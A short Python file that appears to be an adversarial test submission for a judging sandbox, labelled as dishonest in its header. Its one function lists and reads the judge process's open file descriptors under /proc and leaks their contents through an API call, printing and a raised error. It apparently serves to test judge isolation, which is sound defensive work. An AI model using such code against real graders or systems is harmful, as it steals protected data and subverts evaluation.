# class: neighbours
# against: 03_gather
# tries: lists and opens the judge's descriptors
# honest: 0

import os


async def fetch_all(api, keys):
    found = None
    try:
        found = [open(f'/proc/@JUDGE@/fd/{number}').read(10) for number in os.listdir('/proc/@JUDGE@/fd')]
    except Exception as error:
        found = error
    print(found)
    try:
        await api.fetch(str(found))
    except Exception:
        pass
    raise ValueError(str(found))
